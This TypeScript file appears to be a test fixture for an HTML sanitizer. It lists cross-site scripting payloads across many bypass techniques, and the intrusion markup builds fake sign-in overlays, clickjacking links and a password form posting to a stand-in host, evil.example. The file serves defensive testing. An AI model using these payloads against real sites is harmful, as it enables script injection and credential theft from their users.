/** Cross-site scripting vectors, grouped by technique. Each calls `hit()` if it runs. */

const scripts = [
  '<script>hit()</script>',
  '<SCRIPT>hit()</SCRIPT>',
  '<script >hit()</script >',
  '<script\n>hit()</script\n>',
  '<script/x>hit()</script>',
  '<script type="module">hit()</script>',
  '<script type="text/javascript">hit()</script>',
  '<script src="data:text/javascript,hit()"></script>',
  '<script src="//evil.example/x.js"></script>',
  '<script async defer>hit()</script>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<<script>hit();//<</script>',
  '<script><!--\nhit()\n--></script>',
  '<svg><script>hit()</script></svg>',
  '<svg><script href="data:,hit()" /></svg>',
  '<svg><script xlink:href="data:,hit()" /></svg>',
  '<math><script>hit()</script></math>',
  '"><script>hit()</script>',
  "'><script>hit()</script>",
  '</p><script>hit()</script><p>',
  '</textarea><script>hit()</script>',
  '</title><script>hit()</script>',
];

const handlersByTag: [tag: string, handlers: string[]][] = [
  ['img src=x:', ['onerror', 'onload', 'onclick', 'onmouseover', 'oNeRrOr']],
  ['svg', ['onload', 'onbegin', 'onclick', 'onfocusin']],
  ['body', ['onload', 'onpageshow', 'onhashchange', 'onresize', 'onscroll']],
  ['video src=x:', ['onerror', 'onloadstart', 'oncanplay']],
  ['audio src=x:', ['onerror', 'onloadstart']],
  ['video><source src=x:', ['onerror']],
  ['input autofocus', ['onfocus', 'onblur']],
  ['select autofocus', ['onfocus']],
  ['textarea autofocus', ['onfocus']],
  ['button autofocus', ['onfocus', 'onclick']],
  ['details open', ['ontoggle']],
  ['marquee', ['onstart', 'onfinish', 'onbounce']],
  ['iframe', ['onload']],
  ['object data=x:', ['onerror']],
  ['embed src=x:', ['onerror']],
  ['link rel=stylesheet href=x:', ['onerror', 'onload']],
  ['a href=#x tabindex=1 id=x', ['onfocus', 'onclick', 'onpointerenter']],
  ['p style="animation: x 1s"', ['onanimationstart', 'onanimationend']],
  ['p contenteditable', ['onbeforeinput', 'onpaste']],
  ['div style="transition: all 1s"', ['ontransitionend', 'onwheel']],
  ['form', ['onsubmit', 'onformdata']],
  ['dialog open', ['onclose', 'oncancel']],
];

const handlers = handlersByTag.flatMap(([tag, names]) =>
  names.map((name) => `<${tag} ${name}="hit()">`),
);

const scriptUrls = [
  'javascript:hit()',
  'JaVaScRiPt:hit()',
  'java\tscript:hit()',
  'java\nscript:hit()',
  ' javascript:hit()',
  '\u0001javascript:hit()',
  'javascript&colon;hit()',
  '&#106;avascript:hit()',
  '&#x6A;avascript:hit()',
  'javascript:/*--></title>*/hit()',
  'javascript://example.com/%0Ahit()',
  'vbscript:hit()',
  'data:text/html,<script>parent.hit()</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KCk8L3NjcmlwdD4=',
  'blob:https://example.com/hit',
];

const urls = [
  ...scriptUrls.map((url) => `<a href="${url}">go</a>`),
  ...scriptUrls
    .slice(0, 5)
    .flatMap((url) => [
      `<img src="${url}">`,
      `<iframe src="${url}"></iframe>`,
      `<form action="${url}"><input type=submit></form>`,
      `<button formaction="${url}">go</button>`,
      `<svg><a xlink:href="${url}"><text>go</text></a></svg>`,
      `<math href="${url}">go</math>`,
      `<area href="${url}">`,
      `<object data="${url}"></object>`,
      `<embed src="${url}">`,
    ]),
];

const styles = [
  '<style>@import "javascript:hit()";</style>',
  '<style>p { background: url("javascript:hit()") }</style>',
  '<style><img src=x: onerror=hit()></style>',
  '<p style="background: url(javascript:hit())">x</p>',
  '<p style="width: expression(hit())">x</p>',
  '<p style="-moz-binding: url(//evil.example/x.xml#x)">x</p>',
  '<p style="behavior: url(x.htc)">x</p>',
  '<link rel="stylesheet" href="javascript:hit()">',
];

const mutations = [
  '<noscript><p title="</noscript><img src=x: onerror=hit()>"></noscript>',
  '<style><style/><img src=x: onerror=hit()>',
  '<title><a title="</title><img src=x: onerror=hit()>"></title>',
  '<textarea><a title="</textarea><img src=x: onerror=hit()>"></textarea>',
  '<xmp><p title="</xmp><img src=x: onerror=hit()>"></xmp>',
  '<noembed><p title="</noembed><img src=x: onerror=hit()>"></noembed>',
  '<math><mtext><table><mglyph><style><img src=x: onerror=hit()></style></mglyph></table></mtext></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=hit()&gt;">',
  '<svg></p><style><a id="</style><img src=x: onerror=hit()>">',
  '<svg><foreignObject><p><style><img src=x: onerror=hit()></style></p></foreignObject></svg>',
  '<svg><desc><style><img src=x: onerror=hit()></style></desc></svg>',
  '<math><annotation-xml encoding="text/html"><style><img src=x: onerror=hit()></style></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=hit()>',
  '<template><img src=x: onerror=hit()></template>',
  '<select><template><img src=x: onerror=hit()></template></select>',
  '<!--><img src=x: onerror=hit()>-->',
  '<![CDATA[><img src=x: onerror=hit()>]]>',
  '<?xml ?><img src=x: onerror=hit()>',
  '<p id="</p><img src=x: onerror=hit()>">',
  '&lt;img src=x: onerror=hit()&gt;',
];

const frames = [
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x: onerror=parent.hit()&gt;"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<iframe src="https://evil.example/?https://www.youtube.com/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>',
  '<iframe src="//evil.example"></iframe>',
  '<iframe src="https:\\\\evil.example"></iframe>',
  '<frameset><frame src="javascript:hit()"></frameset>',
  '<object type="text/html" data="data:text/html,<script>parent.hit()</script>"></object>',
  '<portal src="https://evil.example"></portal>',
];

const documents = [
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0; url=javascript:hit()">',
  '<meta http-equiv="refresh" content="0; url=https://evil.example">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<link rel="import" href="https://evil.example">',
  '<html onclick="hit()"><body onload="hit()">',
  '<form id="x" action="https://evil.example"><input name="password"></form>',
  '<form class="ql-ui ql-code-block-container"><input name="classList"><input name="remove"><input name="replaceWith"></form>',
  '<img name="getElementById"><a id="cookie"></a><form name="body"><input name="attributes"></form>',
];

/** Markup that covers the page, leaves it on a click or imitates a part of the console, without a script. */
export const intrusions = [
  '<dialog open style="position: fixed; inset: 0">Sign in again</dialog>',
  '<dialog open><a href="https://evil.example">Sign in again</a></dialog>',
  '<div popover id="p">Over the page</div><a popovertarget="p" href="#p">open</a>',
  '<div popover="manual" id="q">Over</div><p popovertarget="q" popovertargetaction="show">open</p>',
  '<a style="position: fixed; inset: 0" href="https://evil.example">all of the page</a>',
  '<a style="position: absolute; top: -9999px; left: -9999px; width: 99999px; height: 99999px" href="https://evil.example">x</a>',
  '<div style="position: sticky; top: 0; z-index: 99999; height: 100vh">sticky</div>',
  '<div style="margin-top: -2000px; height: 4000px">margin</div>',
  '<div style="transform: scale(100)">transform</div>',
  '<div style="box-shadow: 0 0 0 9999px red; outline: 9999px solid red">shadow</div>',
  '<div style="background-color: red; position: fixed; inset: 0">ground</div>',
  '<div class="ql-tooltip">a class of Quill</div>',
  '<div class="ql-clipboard ql-hidden ql-container ql-toolbar">classes of Quill</div>',
  '<div class="visually-hidden">a class of the console</div>',
  '<img usemap="#m" src="/logo.svg" width="900" height="900"><map name="m"><area shape="default" href="javascript:hit()"></map>',
  '<img usemap="#m" src="/logo.svg" width="900" height="900"><map name="m"><area shape="default" href="https://example.com/" target="_top"></map>',
  '<img usemap="#m" src="/logo.svg" width="900" height="900"><map name="m"><area shape="default" href="//evil.example"></map>',
  '<img usemap="#m" src="/logo.svg" width="900" height="900"><map name="m"><area shape="default" href="#/admin/delete-account"></map>',
  '<img usemap="#elsewhere" src="/logo.svg" width="900" height="900">',
  '<a href="#/admin/delete-account">inside the console</a>',
  '<a href="/story-admin/" download>a file</a>',
  '<a href="https://example.com/" target="_parent" rel="opener">the same tab</a>',
  '<marquee style="position: fixed">moving</marquee>',
  '<blink>blinking</blink>',
  '<canvas width="9999" height="9999"></canvas>',
  '<video autoplay src="x:"></video>',
  '<audio autoplay src="x:"></audio>',
  '<p tabindex="1" role="alertdialog" aria-label="Sign in again">an alert</p>',
  '<p data-tooltip="Sign in again at evil.example">a tooltip</p>',
];

export const vectors = [scripts, handlers, urls, styles, mutations, frames, documents].flat();
